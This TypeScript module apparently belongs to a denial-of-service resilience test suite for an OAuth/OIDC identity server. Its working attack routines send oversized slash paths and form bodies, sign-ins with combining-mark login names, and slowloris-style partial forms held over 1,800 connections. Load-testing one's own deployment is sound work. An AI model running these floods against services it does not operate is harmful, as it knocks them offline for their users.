import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import type { Attack, Attacking, Target } from '../attack.js';
import { authorizationRequest } from '../authorization-request.js';
import type { Caller, Shot } from '../caller.js';
import { cheapRequests } from '../clients.js';

const formType = { 'content-type': 'application/x-www-form-urlencoded' };

const places = [
  '/oauth/v2/token',
  '/oauth/v2/introspect',
  '/oauth/v2/revoke',
  '/oidc/v1/userinfo',
  '/nothing',
];

const manyKeys = Array.from({ length: 90_000 }, (_, n) => n.toString(36)).join('&');

/** Longer ones end at the balancer. Shorter ones reach the API process. */
const texts = ['+'.repeat(1_000_000), manyKeys, '+'.repeat(65_000), manyKeys.slice(0, 65_000)];

const shots: readonly Shot[] = [
  { method: 'GET', path: '/'.repeat(31_000) },
  { method: 'GET', path: '/'.repeat(8_100) },
  { method: 'GET', path: `/scim/v2${'/'.repeat(8_000)}` },
  ...texts.flatMap((body) => places.map((path) => ({ method: 'POST', path, headers: formType, body }))),
];

const connections = 6;

/** Sends the requests in turn, over each of the connections 49 in 10 s. */
async function sendInTurn(attacking: Attacking, requests: readonly Shot[]): Promise<void> {
  let turn = 0;
  const one = () =>
    attacking.rounds(10_000 / 49, async () => {
      const shot = requests[turn++ % requests.length];
      if (shot !== undefined) await attacking.send(shot);
    });
  await Promise.all(Array.from({ length: connections }, one));
}

export const costlyForms: Attack = {
  name: 'A3 paths and forms',
  sends: `${connections} connections, each with 49 requests in 10 s: 31,000 and 8,100 slashes; 1 MB and 65 kB of plus signs and keys at 5 addresses`,
  reached: ['400', '404', '413', '414'],
  // An address with more than 600 refused requests in a minute gets 429.
  possible: ['401', '429'],
  start: async () => (attacking) => sendInTurn(attacking, shots),
  control: cheapRequests(connections),
};

/** Longer than a login name may be. Each letter carries as many combining marks as Unicode text may, or far more. */
const loginNames = [`a${'\u0301\u0316'.repeat(2_000)}`, `a${'\u0301\u0316'.repeat(15)}`.repeat(120)];

/** A sign-in as it is posted, with an authorization request that anybody can send. */
async function openForm(
  caller: Caller,
  target: Target,
): Promise<{ path: string; fields: [string, string][]; cookie: string }> {
  const opened = await caller.send({
    method: 'GET',
    path: `/oauth/v2/authorize?${authorizationRequest(target, '')}`,
  });
  const headers = { cookie: opened.cookies };
  const page = await caller.send({ method: 'GET', path: opened.location ?? '/', headers });
  const [, path = '', form = ''] =
    /<form method="post" action="([^"]+)">(.*?)<\/form>/s.exec(page.text) ?? [];
  const hidden = [...form.matchAll(/type="hidden" name="([^"]+)" value="([^"]*)"/g)];
  if (path === '') throw new Error(`There is no form: ${page.status} ${page.text.slice(0, 300)}`);
  return {
    path: path.replace(/^https?:\/\/[^/]+/, '').replaceAll('&amp;', '&'),
    fields: hidden.map(([, name = '', value = '']): [string, string] => [name, value]),
    cookie: [opened.cookies, page.cookies].filter((one) => one !== '').join('; '),
  };
}

export const loginNamesOfMarks: Attack = {
  name: 'A3 login names of combining marks',
  sends: `${connections} connections, each with 49 sign-ins in 10 s, with login names of 4,001 and 3,720 characters`,
  // A refused form leads back to its page, which says why.
  reached: ['303'],
  // The limits of requests.
  possible: ['429'],
  async start(caller, target) {
    const { path, fields, cookie } = await openForm(caller, target);
    const shots = loginNames.map((loginName): Shot => {
      const body = new URLSearchParams([...fields, ['loginName', loginName], ['password', 'Wrong-Horse-7']]);
      return { method: 'POST', path, headers: { ...formType, cookie }, body: body.toString() };
    });
    await requireRefused(caller, shots, cookie);
    return (attacking) => sendInTurn(attacking, shots);
  },
  control: cheapRequests(connections),
};

/** Sends each shot once. @throws Error if one leads elsewhere than to a page that refuses the sign-in */
async function requireRefused(caller: Caller, shots: readonly Shot[], cookie: string): Promise<void> {
  for (const shot of shots) {
    const { location = '/', cookies } = await caller.send(shot);
    const headers = { cookie: [cookie, cookies].filter((one) => one !== '').join('; ') };
    const page = await caller.send({ method: 'GET', path: location, headers });
    if (![400, 429].includes(page.status)) throw new Error(`The login name is not refused: ${page.status}`);
  }
}

const heldConnections = 1_800;
/** The control sends its requests over so many. */
const controlConnections = 100;
/** A connection that has ended is opened again this long after it was opened. */
const reopenMs = 10_000;

/** These take a form. Others answer before its end. */
const formPlaces = places.filter((place) => place !== '/nothing');

/** Keeps as many connections open as the attack has. Each sends a form without its end. */
async function holdForms(attacking: Attacking, url: string): Promise<void> {
  const { target, addresses, ended } = attacking;
  const connections = Math.ceil(heldConnections * target.part);
  const each = Array.from({ length: connections }, async (_, n) => {
    // They come one after another, at the rate at which they are opened again.
    await pause((n * reopenMs * target.part) / connections, undefined, { signal: ended }).catch(
      () => undefined,
    );
    const place = formPlaces[n % formPlaces.length] ?? '/';
    const address = addresses[n % addresses.length] ?? '';
    await attacking.rounds(reopenMs, () => holdForm(attacking, { url, place, address }));
  });
  await Promise.all(each);
}

/** Sends nearly all of a form. Resolves when the connection ends, or the phase does. */
function holdForm(
  { ended, count, sent }: Attacking,
  { url, place, address }: { url: string; place: string; address: string },
): Promise<void> {
  const { hostname, port } = new URL(url);
  return new Promise((done) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: address });
    const end = () => socket.destroy();
    ended.addEventListener('abort', end);
    socket.on('error', () => undefined);
    socket.once('close', () => {
      ended.removeEventListener('abort', end);
      done();
    });
    socket.once('data', (chunk: Buffer) => {
      count(chunk.toString('latin1').split(' ', 2)[1] ?? 'broken');
      end();
    });
    const head = [
      `POST ${place} HTTP/1.1`,
      `Host: ${hostname}`,
      `Content-Type: ${formType['content-type']}`,
      'Content-Length: 65000',
      '',
      '',
    ];
    socket.write(head.join('\r\n') + 'a'.repeat(64_000), () => {
      count('held');
      sent(1);
    });
  });
}

const held =
  '1,800 connections in 10 s from 10 addresses, each with 64 of 65 kB of a form, and again every 10 s';

export const heldAtIngress: Attack = {
  name: 'A3 unfinished forms, shipped Ingress',
  sends: held,
  // All connections are open at the end.
  longer: 2,
  reached: ['held'],
  possible: ['408'],
  start: async () => (attacking) => holdForms(attacking, attacking.target.url),
  control: cheapRequests(controlConnections),
};

export const heldAtProcess: Attack = {
  name: 'A3 unfinished forms, a balancer that streams',
  sends: held,
  // All connections are open at the end.
  longer: 2,
  reached: ['held', '503'],
  // A process ends a form that is late without a response, which is 502 at the balancer.
  possible: ['502'],
  start: async () => (attacking) => holdForms(attacking, attacking.target.streamingUrl),
  control: cheapRequests(controlConnections),
};
